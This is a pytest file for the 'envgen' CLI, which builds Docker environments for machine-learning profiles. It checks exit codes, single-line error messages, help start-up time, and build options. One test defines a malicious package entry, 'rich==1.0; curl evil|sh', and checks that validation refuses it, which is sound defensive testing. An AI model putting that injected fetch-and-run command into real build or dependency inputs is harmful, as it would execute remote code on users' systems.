"""The command line as a user meets it: one-line errors, exit codes, nothing half-written."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest


def envgen(*args: str, env: dict[str, str] | None = None, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    full_env = {**os.environ, **(env or {})}
    return subprocess.run([sys.executable, "-m", "envgen", *args], capture_output=True, text=True, env=full_env,
                          cwd=cwd, timeout=120)


def test_help_is_fast_and_imports_no_heavy_layer() -> None:
    start = time.perf_counter()
    assert envgen("--help").returncode == 0
    # Headroom: `envgen --help` took 0.55-0.57 s here (2026-12-01, 2 cores shared by 8 test sessions), so the
    # bound is ~9x that: it catches a heavy import at start-up (seconds), not a slow box. The figure:
    # bench/bench_cli.py.
    assert time.perf_counter() - start < 5
    code = ("import sys, envgen.cli; heavy = [m for m in ('docker', 'jinja2', 'pydantic', 'yaml') if m in sys.modules];"
            " print(heavy)")
    assert subprocess.run([sys.executable, "-c", code], capture_output=True, text=True).stdout.strip() == "[]"


def test_check_exit_codes_and_json() -> None:
    assert envgen("check", "legacy-maxwell").returncode == 0
    bad = envgen("check", "legacy-maxwell", "--gpu", "H100", "--json")
    assert bad.returncode == 1
    codes = {f["code"] for f in json.loads(bad.stdout)}
    assert "torch-no-kernel" in codes


@pytest.mark.parametrize(
    ("args", "needle"),
    [
        (("check", "no-such-profile"), "no profile named 'no-such-profile'"),
        (("check", "legacy-maxwell", "--platform", "macos"), "--platform"),
        (("show", "/nonexistent/p.yaml"), "does not exist"),
        (("render", "legacy-maxwell", "--offline"), "--offline needs a wheelhouse"),
        (("smoke", "cpu-minimal", "--tier", "half"), "--tier = 'half' is not valid"),
    ],
)
def test_bad_input_is_one_line_exit_2_no_traceback(args: tuple[str, ...], needle: str) -> None:
    result = envgen(*args)
    assert result.returncode == 2, result.stderr
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("error: ") and needle in lines[0]
    assert "Traceback" not in result.stderr


def test_bad_profile_leaves_no_render_directory(tmp_path: Path) -> None:
    profile = tmp_path / "bad.yaml"
    profile.write_text("name: bad\nbase: ubuntu:22.04\npython: '3.10'\ninstaller: pip\ngpu: {required: false}\n"
                       "packages: {pip: ['rich==1.0; curl evil|sh']}\n", encoding="utf-8")
    result = envgen("render", str(profile), "-o", str(tmp_path / "out"))
    assert result.returncode == 2 and "packages.pip.0" in result.stderr
    assert not (tmp_path / "out").exists()
    assert [p.name for p in tmp_path.iterdir()] == ["bad.yaml"]


def test_docker_unreachable_is_one_sentence(tmp_path: Path) -> None:
    env = {"DOCKER_HOST": f"unix://{tmp_path}/no-engine.sock", "ENVGEN_CONFIG": str(tmp_path / "c.yaml")}
    (tmp_path / "c.yaml").write_text(f"state_dir: {tmp_path / 'state'}\n", encoding="utf-8")
    for args in (("build", "cpu-minimal"), ("images",), ("run", "cpu-minimal", "--", "true")):
        result = envgen(*args, env=env)
        lines = [line for line in result.stderr.splitlines() if line.startswith("error: ")]
        assert result.returncode == 4, (args, result.stderr)
        assert len(lines) == 1 and "Docker" in lines[0] and "Traceback" not in result.stderr


def test_build_no_check_is_offered_and_warns_before_building(tmp_path: Path) -> None:
    """--no-check builds a profile the check rejects, saying so first (here the engine is unreachable, so
    the warning and the check's errors are all that happens)."""
    assert "--no-check" in envgen("build", "--help").stdout
    env = {"DOCKER_HOST": f"unix://{tmp_path}/no-engine.sock", "ENVGEN_CONFIG": str(tmp_path / "c.yaml")}
    (tmp_path / "c.yaml").write_text(f"state_dir: {tmp_path / 'state'}\n", encoding="utf-8")
    twin = tmp_path / "twin.yaml"
    twin.write_text("name: twin\nbase: debian:bookworm-slim\nlocal_base: true\ninstaller: pip\npython: '3.11'\n"
                    "cuda: '12.1'\nframeworks: {tensorflow: 2.12.0, tensorflow_package: tensorflow}\n"
                    "packages: {pip: [nvidia-cuda-runtime-cu12==12.1.105]}\n", encoding="utf-8")
    refused = envgen("build", str(twin), env=env)
    assert refused.returncode == 1 and "tf-cuda-mismatch" in refused.stderr
    forced = envgen("build", str(twin), "--no-check", env=env)
    assert forced.stdout.startswith("warning: --no-check: building 'twin' without its compatibility check")
    assert "warning: [tf-cuda-mismatch]" in forced.stdout
    assert forced.returncode == 4  # then the unreachable engine stops it


def test_profiles_table_and_show() -> None:
    table = envgen("profiles").stdout
    for name in ("legacy-maxwell", "modern-a100", "ngc-tensorflow", "cpu-smoke", "cpu-minimal"):
        assert name in table
    shown = envgen("show", "legacy-maxwell").stdout
    assert "cuda: '10.1'" in shown and "GTX 950M" in shown


def test_build_compression_is_an_option_and_an_unknown_one_is_one_line_before_the_engine(tmp_path: Path) -> None:
    """`envgen build --compression zstd|gzip` (issue #44 item 4): a name envgen does not know is refused before the
    engine is asked (here none answers, which would be exit 4); zstd on Docker 20.10 is
    tests/docker/test_build_zstd.py's."""
    assert "--compression" in envgen("build", "--help").stdout
    env = {"DOCKER_HOST": f"unix://{tmp_path}/no-engine.sock", "ENVGEN_CONFIG": str(tmp_path / "c.yaml")}
    (tmp_path / "c.yaml").write_text(f"state_dir: {tmp_path / 'state'}\n", encoding="utf-8")
    result = envgen("build", "cpu-minimal", "--compression", "brotli", env=env)
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert result.returncode == 2, result.stderr
    assert len(lines) == 1 and "layer compression 'brotli' is not one envgen knows" in lines[0]
    assert "gzip, zstd" in lines[0] and "Traceback" not in result.stderr
    assert not (tmp_path / "state" / "contexts").exists()


def test_show_prints_the_plans_notes_cuda_once_among_them(tmp_path: Path) -> None:
    """`envgen show` prints the plan's notes (issue #44 item 3: which copy of CUDA the frameworks load when it
    arrives twice): a100-pypi moved onto a CUDA 11.8 base image."""
    text = (Path(__file__).resolve().parents[2] / "profiles" / "a100-pypi.yaml").read_text(encoding="utf-8")
    moved = tmp_path / "a100-cuda-base.yaml"
    moved.write_text(text.replace("base: debian:bookworm-slim", "base: nvidia/cuda:11.8.0-cudnn8-runtime-ubuntu22.04")
                     .replace("local_base: true\n", ""), encoding="utf-8")
    shown = envgen("show", str(moved))
    assert shown.returncode == 0, shown.stderr
    once = [line for line in shown.stdout.splitlines() if line.startswith("# plan: CUDA once: ")]
    assert len(once) == 1 and "never those of base image nvidia/cuda:11.8.0-cudnn8-runtime-ubuntu22.04" in once[0]
    assert "# plan: CUDA once" not in envgen("show", "a100-pypi").stdout
